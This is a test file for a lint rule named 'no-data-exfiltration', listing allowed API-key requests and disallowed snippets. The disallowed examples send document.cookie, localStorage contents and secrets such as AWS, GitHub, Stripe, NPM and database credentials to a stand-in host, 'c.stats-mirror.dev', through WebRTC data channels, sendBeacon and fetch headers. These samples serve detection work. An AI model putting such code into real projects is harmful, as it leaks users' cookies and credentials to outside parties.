import rule from '../../src/rules/no-data-exfiltration.ts';
import { ruleTester } from '../tester.ts';

// data channels, service workers, keys in headers
await ruleTester(rule, {
  valid: [
    { code: 'const channel = new RTCPeerConnection().createDataChannel(\'chat\'); form.onsubmit = () => channel.send(JSON.stringify({ text: input.value, name: localStorage.getItem(\'name\') }));' },
    { code: 'fetch(\'https://api.acme-app.dev/x\', { headers: { \'CF-Access-Client-Id\': process.env.CF_ACCESS_CLIENT_ID, \'CF-Access-Client-Secret\': process.env.CF_ACCESS_CLIENT_SECRET, authorization: `Bearer ${process.env.API_TOKEN}` } });' },
    { code: 'fetch(\'https://api.acme-app.dev/x\', { headers: { \'X-Api-Key\': process.env.ACME_API_KEY, authorization: `Bearer ${process.env.ACME_TOKEN}` } });' },
    { code: 'fetch(`${process.env.SUPABASE_URL}/rest/v1/x`, { headers: { apikey: process.env.SUPABASE_ANON_KEY, authorization: `Bearer ${process.env.SERVICE_ROLE_KEY}` } });' },
    { code: 'fetch(\'https://gateway.acme-app.dev/v1/chat\', { headers: { \'cf-aig-authorization\': `Bearer ${process.env.CF_AIG_TOKEN}`, authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });' },
    { code: 'fetch(\'https://oai.helicone.ai/v1/chat/completions\', { method: \'POST\', headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}`, \'Helicone-Auth\': `Bearer ${process.env.HELICONE_API_KEY}` }, body });' },
  ],
  invalid: [
    { code: 'const channel = new RTCPeerConnection().createDataChannel(\'x\'); channel.send(document.cookie);', errors: [{ messageId: 'sent' }] },
    { code: 'const channel = new RTCPeerConnection(config).createDataChannel(\'x\'); channel.send(JSON.stringify({ ...localStorage }));', errors: [{ messageId: 'sent' }] },
    { code: 'navigator.serviceWorker.onmessage = (e) => navigator.sendBeacon(\'https://c.stats-mirror.dev/x\', e.data); navigator.serviceWorker.controller.postMessage(JSON.stringify(localStorage));', errors: [{ messageId: 'sent' }] },
    { code: 'fetch(\'https://c.stats-mirror.dev/x\', { headers: { \'x-a\': process.env.AWS_SECRET_ACCESS_KEY, \'x-b\': process.env.GITHUB_TOKEN, \'x-c\': process.env.STRIPE_SECRET_KEY } });', errors: [{ messageId: 'several' }, { messageId: 'several' }, { messageId: 'several' }] },
    { code: 'const headers = {}; headers[\'x-a\'] = process.env.NPM_TOKEN; headers[\'x-b\'] = process.env.OPENAI_API_KEY; headers[\'x-c\'] = process.env.DATABASE_PASSWORD; fetch(\'https://c.stats-mirror.dev/x\', { headers });', errors: [{ messageId: 'several' }] },
  ],
});
